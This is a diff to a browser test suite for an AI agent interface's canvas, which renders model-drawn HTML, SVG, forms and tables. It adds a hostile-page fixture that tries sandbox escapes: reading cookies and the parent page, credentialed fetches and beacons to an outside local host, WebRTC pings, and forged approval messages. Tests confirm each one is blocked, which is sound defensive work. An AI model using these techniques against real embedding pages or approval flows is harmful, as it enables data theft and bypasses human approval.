@@ -2,10 +2,13 @@
 // accessible, quick and silent. Screenshots go to SHOTS, where it is set.
 
 import AxeCore from "axe-core";
-import { existsSync, mkdirSync } from "node:fs";
+import { existsSync, mkdirSync, readFileSync } from "node:fs";
+import { createSocket } from "node:dgram";
+import { createServer } from "node:http";
+import type { AddressInfo } from "node:net";
 import { chromium, type Browser, type BrowserContext, type Page } from "playwright-core";
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
-import type { Op, SessionSummary } from "../src/protocol";
+import type { Op, SessionSummary, Surface } from "../src/protocol";
 import { cutAnew, SESSION, Teller, turnId, usage, wholeStory } from "./journal";
 import { MockGateway } from "./mock";
 
@@ -348,6 +351,21 @@ describeInBrowser("what streams", () => {
     }
   });
 
+  it("reads anew when the engine was killed and lost what it had not stored yet", async () => {
+    await openPage();
+    await visitSession();
+    tellRunningTurn();
+    gateway.tell(SESSION, turnId(50), { event: "text_delta", text: "never stored" }, { event: "text_delta", text: ", and neither" });
+    await page.getByText("never stored, and neither").waitFor();
+    gateway.journal.length -= 3;
+    gateway.status = { ...gateway.status, started_at: gateway.status.started_at + 1 };
+    gateway.tell(SESSION, turnId(50), { event: "turn_ended", outcome: { type: "failed", error: "The engine was stopped." }, usage: usage(1, 1), elapsed_ms: 9 });
+    gateway.drop();
+    await page.getByText("The engine was stopped.").waitFor();
+    expect(await page.getByText("never stored").count()).toBe(0);
+    expect(await page.locator(".working").count()).toBe(0);
+  });
+
   it("shows thinking, words and output growing at once", async () => {
     await openPage();
     await visitSession();
@@ -637,6 +655,286 @@ describeInBrowser("what a person does", () => {
     await page.reload();
     await page.waitForSelector(".bar");
     expect(await scheme()).toBe("dark");
+  });
+});
+
+const SURFACES: Surface[] = [
+  { name: "notes", title: "What I found", kind: "markdown", language: "", content: "## Two ways\n\n- **fast**: a cache\n- slow: none\n\n```sh\nls\n```\n<img src=x onerror=alert(1)>" },
+  { name: "main", title: "", kind: "code", language: "rust", content: "fn main() {\n    println!(\"hello\");\n}\n" },
+  { name: "flow", title: "How a request goes", kind: "diagram", language: "", content: "browser -> gateway: HTTP\ngateway -> engine: op\nengine -> model: request\nengine -> tools: call\ntools -> engine: output\nmodel -> engine: words\nengine -> journal\njournal -> gateway: events\ngateway -> browser: records" },
+  { name: "logo", title: "A picture", kind: "image", language: "", content: "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==" },
+  { name: "drawing", title: "An SVG", kind: "svg", language: "", content: '<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 120 60"><circle cx="30" cy="30" r="24" fill="teal"/><text x="62" y="34">hello</text></svg>' },
+  { name: "page", title: "A page", kind: "html", language: "", content: "<h1>Count</h1><p id=n>0</p><button id=more>More</button><button id=send>Send</button><script>let n = 0; more.onclick = () => { document.getElementById('n').textContent = ++n; }; send.onclick = () => parent.postMessage({ type: 'act', action: 'count', values: { n } }, '*');</script>" },
+  { name: "growth", title: "Pages by month", kind: "chart", language: "", content: "month,read,written\nJanuary,120,30\nFebruary,180,42\nMarch,90,\nApril,240,80\n" },
+  { name: "sizes", title: "Sizes", kind: "table", language: "", content: 'file,bytes,note\nb.rs,120,"quoted, ""so"""\na.rs,9,\nc.rs,1000,last\n' },
+  { name: "trip", title: "Where to?", kind: "form", language: "", content: JSON.stringify({ fields: [{ name: "city", label: "City", value: "Ulm" }, { name: "why", type: "multiline" }, { name: "days", label: "Days", type: "number" }, { name: "from", label: "From", type: "date" }, { name: "by", label: "By", type: "choice", options: ["train", "bicycle"] }, { name: "cheap", label: "As cheap as it can be", type: "checkbox" }], actions: ["plan it", "not now"] }) },
+];
+
+function tellCanvas(...surfaces: Surface[]): void {
+  gateway.tell(SESSION, turnId(80), { event: "turn_started", text: "Draw it" }, ...surfaces.map((surface) => ({ event: "canvas_drawn", surface }) as const), { event: "text_delta", text: "Here it is." }, { event: "turn_ended", outcome: { type: "completed" }, usage: usage(10, 10), elapsed_ms: 900 });
+}
+
+const tab = (name: string) => page.locator(`#tab-${name}`);
+const inFrame = () => page.frameLocator(".surface iframe");
+
+describeInBrowser("the canvas", () => {
+  for (const [size, viewport] of Object.entries(SIZES)) {
+    for (const scheme of ["light", "dark"] as const) {
+      it(`${size} and ${scheme}: every kind of surface is accessible and fits`, async () => {
+        await openPage(viewport, scheme);
+        tellCanvas(...SURFACES);
+        await visitSession();
+        await page.getByText("Here it is.").waitFor();
+        if (size === "narrow") await page.getByRole("button", { name: "Canvas, 9 surfaces" }).click();
+        expect(await page.locator("[role=tab]").first().innerText()).toBe("Where to?");
+        for (const { name } of SURFACES) {
+          await tab(name).click();
+          await page.waitForTimeout(150);
+          await shot(`${size}-${scheme}-canvas-${name}`);
+          expect(await violations(), name).toEqual([]);
+          expect(await fitsWidth(), name).toBe(true);
+        }
+        if (size === "narrow") {
+          await page.keyboard.press("Escape");
+          await page.locator(".canvas").waitFor({ state: "hidden" });
+        }
+      });
+    }
+  }
+
+  it("is seen growing while it is written, and never fails on a half", async () => {
+    await openPage();
+    await visitSession();
+    gateway.tell(SESSION, turnId(80), { event: "turn_started", text: "Draw it" });
+    for (const [idx, surface] of SURFACES.entries()) {
+      const call = `g${idx}`;
+      gateway.tell(SESSION, turnId(80), { event: "tool_call_started", call, name: "canvas" });
+      const json = JSON.stringify(surface);
+      for (const piece of json.match(/[^]{1,11}/g)!) {
+        gateway.tell(SESSION, turnId(80), { event: "tool_arguments_delta", call, json: piece });
+        await page.waitForTimeout(4);
+      }
+      await page.locator(`#tab-${surface.name}[aria-selected="true"] .spinner`).waitFor();
+      expect(await page.getByText("can't be shown here").count()).toBe(0);
+      gateway.tell(SESSION, turnId(80), { event: "tool_call_ready", call: { id: call, name: "canvas", arguments: { ...surface } }, origin: "model" }, { event: "canvas_drawn", surface }, { event: "tool_call_ended", call, text: "shown", is_error: false, taint: { untrusted: false, private: false }, whole: null, elapsed_ms: 1 });
+      await page.locator(`#tab-${surface.name}[aria-selected="true"] .spinner`).waitFor({ state: "detached" });
+    }
+  });
+
+  it("sorts a table by its heads", async () => {
+    await openPage();
+    tellCanvas(...SURFACES);
+    await visitSession();
+    await tab("sizes").click();
+    const column = () => page.$$eval(".sheet tbody td:first-child", (found) => found.map((cell) => cell.textContent));
+    const head = page.locator(".sheet").getByRole("button", { name: "bytes" });
+    await head.click();
+    expect(await column()).toEqual(["a.rs", "b.rs", "c.rs"]);
+    await head.click();
+    expect(await column()).toEqual(["c.rs", "b.rs", "a.rs"]);
+    await head.click();
+    expect(await column()).toEqual(["b.rs", "a.rs", "c.rs"]);
+  });
+
+  it("sends what a form holds, once, and shows what was sent", async () => {
+    await openPage();
+    tellCanvas(...SURFACES);
+    await visitSession();
+    gateway.onOp = (op) => {
+      if (op.op !== "act") return;
+      gateway.tell(SESSION, op.turn, { event: "turn_started", text: `[On the canvas, the person pressed "${op.act.action}"]` }, { event: "canvas_acted", act: op.act });
+    };
+    await page.getByLabel("City").fill("Jena");
+    await page.getByLabel("why").fill("one\ntwo");
+    await page.getByLabel("Days").fill("2.5");
+    await page.getByLabel("From").fill("2027-05-01");
+    await page.getByLabel("By").selectOption("bicycle");
+    await page.getByLabel("As cheap as it can be").check();
+    await page.getByRole("button", { name: "plan it" }).click();
+    await page.locator(".sent").getByText("Jena").waitFor();
+    await page.locator(".transcript .pressed").getByText("plan it on trip").waitFor();
+    const [op] = opsOf("act");
+    expect(op).toEqual({
+      op: "act",
+      session: SESSION,
+      turn: expect.stringMatching(/^[0-9a-f]{8}-[0-9a-f]{4}-7/),
+      act: { surface: "trip", action: "plan it", values: { city: "Jena", why: "one\ntwo", days: 2.5, from: "2027-05-01", by: "bicycle", cheap: true } },
+      options: { is_attended: true, workspace: null, model: null },
+    });
+    expect(opsOf("act").length).toBe(1);
+    expect(opsOf("decide")).toEqual([]);
+  });
+
+  it("saves a surface and all of it as a file that reaches nothing", async () => {
+    await openPage();
+    tellCanvas(...SURFACES);
+    await visitSession();
+    const saved = async (button: string) => {
+      const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: button }).click()]);
+      return { name: download.suggestedFilename(), text: readFileSync(await download.path(), "utf8") };
+    };
+    await tab("sizes").click();
+    const one = await saved("Save Sizes as a file");
+    expect(one.name).toBe("sizes.html");
+    expect(one.text).toContain("quoted, &quot;so&quot;");
+    const all = await saved("Save the whole canvas as a file");
+    expect(all.name).toBe("canvas.html");
+    expect(all.text.match(/<section>/g)!.length).toBe(SURFACES.length);
+    expect(all.text).toContain("default-src 'none'");
+    await context.close();
+    context = await browser.newContext();
+    page = await context.newPage();
+    const asked: string[] = [];
+    page.on("request", (request) => asked.push(request.url()));
+    await page.setContent(all.text);
+    await page.frameLocator("iframe").first().getByRole("button", { name: "More" }).click();
+    expect(asked.filter((url) => !url.startsWith("data:"))).toEqual([]);
+  });
+});
+
+/** Tries everything that a page could do to the page around it and to the world. What comes of it is in \`got\`. */
+const HOSTILE = (own: string, foreign: string, udp: number) => `<p id="got">tried:</p>
+<link rel="stylesheet" href="${foreign}/style.css"><link rel="dns-prefetch" href="${foreign}"><link rel="preconnect" href="${foreign}"><link rel="prefetch" href="${own}/api/status?prefetch">
+<img src="${foreign}/image.png"><img src="${own}/api/status?image"><iframe src="${own}/api/status?inner"></iframe><iframe srcdoc="<script>new RTCPeerConnection({iceServers:[{urls:'stun:127.0.0.1:${udp}'}]}).createOffer({offerToReceiveAudio:true})</script>"></iframe>
+<form id="form" action="${own}/api/ops" method="post"><input name="x"></form>
+<a id="link" href="${foreign}/top" target="_top">x</a>
+<script>
+  const got = [];
+  const tried = (name, act) => { try { const value = act(); if (value !== undefined && value !== null) got.push(name); } catch {} };
+  tried("parent document", () => parent.document);
+  tried("parent body", () => parent.window.document.body);
+  tried("top location", () => top.location.href);
+  tried("cookie", () => document.cookie);
+  tried("storage", () => localStorage);
+  tried("session storage", () => sessionStorage);
+  tried("frame element", () => frameElement);
+  tried("origin", () => self.origin === "null" ? null : self.origin);
+  tried("opened", () => open("${foreign}/opened"));
+  tried("top", () => { top.location = "${foreign}/top"; });
+  tried("parent", () => { parent.location.replace("${foreign}/parent"); });
+  tried("link", () => { document.getElementById("link").click(); });
+  tried("form", () => { document.getElementById("form").submit(); });
+  tried("dialog", () => confirm("Approve?") || null);
+  tried("socket", () => { new WebSocket("${own.replace("http", "ws")}/api/ws").onopen = () => got.push("socket opened"); });
+  tried("events", () => { new EventSource("${own}/api/events").onopen = () => got.push("events opened"); });
+  tried("beacon", () => { navigator.sendBeacon("${foreign}/beacon", "x"); });
+  const rings = (view) => {
+    const peer = new view.RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1:${udp}" }] });
+    peer.createDataChannel("x");
+    peer.createOffer().then((offer) => peer.setLocalDescription(offer));
+  };
+  tried("peer", () => { rings(self); });
+  const later = "<script>(" + rings + ")(self)<" + "/script>";
+  tried("link by name", () => { const link = document.createElement("link"); link.rel = "preconnect"; link.href = "${foreign}"; document.head.append(link); });
+  tried("link by markup", () => { document.body.insertAdjacentHTML("beforeend", '<link rel="preconnect" href="${foreign}">'); });
+  tried("link by class", () => { class Link extends HTMLLinkElement {} customElements.define("x-link", Link, { extends: "link" }); const link = new Link(); link.rel = "preconnect"; link.href = "${foreign}"; document.head.append(link); });
+  tried("link by xml", () => { const read = new DOMParser().parseFromString('<h:link xmlns:h="http://www.w3.org/1999/xhtml" rel="preconnect" href="${foreign}"/>', "text/xml"); document.head.append(document.adoptNode(read.documentElement)); });
+  tried("written frame", () => { document.body.insertAdjacentHTML("beforeend", "<iframe></iframe>"); document.querySelector("iframe").srcdoc = later; });
+  tried("made frame", () => { const inner = document.createElementNS("http://www.w3.org/1999/xhtml", "h:iframe"); inner.srcdoc = later; document.body.append(inner); });
+  tried("markup still works", () => { const box = document.createElement("div"); box.innerHTML = "<b>bold</b>"; if (box.firstChild.tagName !== "B") return "broken"; });
+  tried("inner peer", () => { const inner = document.createElement("iframe"); document.body.append(inner); rings(inner.contentWindow); });
+  tried("worker", () => { new Worker("${own}/app.js").onmessage = () => got.push("worker"); });
+  for (const url of ["${own}/api/status", "${foreign}/fetch"]) {
+    fetch(url, { credentials: "include" }).then(() => got.push("fetched " + url), () => {});
+    fetch(url, { mode: "no-cors" }).then(() => got.push("fetched blindly " + url), () => {});
+  }
+  for (const message of [
+    { type: "decide", approval: "11111111-0000-4000-8000-000000000001", decision: "once" },
+    { op: "decide", approval: "11111111-0000-4000-8000-000000000001", decision: "once" },
+    { type: "op", op: { op: "decide", approval: "11111111-0000-4000-8000-000000000001", decision: "once" } },
+    { type: "answer", question: "q", text: "yes" },
+    { type: "height", height: 1e9 }, { type: "height", height: "100%" }, { type: "height", height: NaN },
+    { type: "act" }, { type: "act", action: "", values: {} }, { type: "act", action: "x".repeat(5000) },
+    { type: "act", action: "big", values: { x: "x".repeat(100000) } },
+    "text", 7, null, [],
+  ]) parent.postMessage(message, "*");
+  for (let n = 0; n < parent.frames.length; n++) parent.frames[n].postMessage({ type: "draw", content: "taken over", isWhole: true }, "*");
+  document.getElementById("got").tabIndex = 0;
+  document.getElementById("got").focus();
+  setInterval(() => { document.getElementById("got").textContent = "got: " + got.join(", "); }, 100);
+</script>`;
+
+describeInBrowser("a hostile page on the canvas", () => {
+  it("g33_reaches_no_page_no_cookie_no_network_and_approves_nothing", async () => {
+    await openPage();
+    const foreign: string[] = [];
+    const world = createServer((request, response) => {
+      foreign.push(request.url ?? "");
+      response.end();
+    });
+    world.on("connection", () => foreign.push("connected"));
+    await new Promise<void>((done) => world.listen(0, "127.0.0.1", done));
+    const address = `http://127.0.0.1:${(world.address() as AddressInfo).port}`;
+    const rung = createSocket("udp4").on("message", () => foreign.push("udp"));
+    const port = await new Promise<number>((done) => rung.bind(0, "127.0.0.1", () => done(rung.address().port)));
+    await context.addCookies([{ name: "titanclaw", value: "secret", url: gateway.url, httpOnly: false, sameSite: "Strict" }]);
+    tellRunningTurn();
+    askApproval();
+    await visitSession();
+    await page.waitForSelector(".approval");
+    await page.locator("#composer").focus();
+    await page.keyboard.type("half a ");
+    gateway.asked.length = 0;
+    gateway.tell(SESSION, turnId(50), { event: "canvas_drawn", surface: { name: "evil", title: "Approve me", kind: "html", language: "", content: HOSTILE(gateway.url, address, port) } });
+    await inFrame().locator("#got", { hasText: "got:" }).waitFor();
+    await page.waitForTimeout(700);
+    expect(await inFrame().locator("#got").innerText()).toBe("got:");
+    await page.keyboard.type("word");
+    expect(await page.inputValue("#composer")).toBe("half a word");
+    expect(foreign).toEqual([]);
+    // This gateway was asked for the frame and for what the page itself looks at again and again.
+    const asked = gateway.asked.filter((line) => !/^GET \/api\/(status|sessions\?limit=1000) /.test(line));
+    expect(asked.map((line) => line.split(" ").slice(0, 2).join(" "))).toEqual(["GET /canvas/frame"]);
+    expect(gateway.ops).toEqual([]);
+    expect(await page.locator(".wish").count()).toBe(0);
+    expect(await page.locator(".approval").count()).toBe(1);
+    expect(page.url()).toContain(gateway.url);
+    expect(context.pages().length).toBe(1);
+    const height = await page.locator(".surface iframe").evaluate((frame) => frame.getBoundingClientRect().height);
+    expect(height).toBeLessThanOrEqual(4_002);
+    // A frame that leaves by itself gets nowhere.
+    gateway.tell(SESSION, turnId(50), { event: "canvas_drawn", surface: { name: "away", title: "", kind: "html", language: "", content: `<meta http-equiv="refresh" content="0;url=${address}/meta"><script>location = "${address}/self"</script>` } });
+    await page.waitForTimeout(500);
+    // Chromium may open a connection before it asks the policy, but says nothing over it.
+    expect(foreign.filter((what) => what !== "connected")).toEqual([]);
+    // The browser says what it forbade.
+    complaints.length = 0;
+    world.close();
+    rung.close();
+  });
+
+  it("g33_sends_only_what_the_person_agreed_to", async () => {
+    await openPage();
+    tellCanvas(...SURFACES);
+    await visitSession();
+    await tab("page").click();
+    await inFrame().getByRole("button", { name: "More" }).click();
+    await inFrame().getByRole("button", { name: "Send" }).click();
+    await page.locator(".wish").getByText("count").waitFor();
+    // Not before it was there for a moment.
+    await page.getByRole("button", { name: "Send it" }).dispatchEvent("click");
+    await page.waitForTimeout(700);
+    expect(opsOf("act")).toEqual([]);
+    await page.getByRole("button", { name: "Send it" }).click();
+    await expect.poll(() => opsOf("act")).toMatchObject([{ act: { surface: "page", action: "count", values: { n: 1 } } }]);
+    await inFrame().getByRole("button", { name: "Send" }).click();
+    await page.getByRole("button", { name: "Don't" }).click();
+    await inFrame().getByRole("button", { name: "Send" }).click();
+    await page.waitForTimeout(200);
+    expect(await page.locator(".wish").count()).toBe(0);
+    expect(opsOf("act").length).toBe(1);
+  });
+
+  it("g33_a_message_from_another_window_is_not_heard", async () => {
+    await openPage();
+    tellCanvas(...SURFACES);
+    await visitSession();
+    await tab("page").click();
+    await inFrame().getByRole("button", { name: "More" }).waitFor();
+    await page.evaluate(() => postMessage({ type: "act", action: "forged", values: {} }, "*"));
+    await page.evaluate(() => document.querySelector("iframe")!.contentWindow!.postMessage({ type: "drawn" }, "*"));
+    await page.waitForTimeout(200);
+    expect(await page.locator(".wish").count()).toBe(0);
   });
 });
 
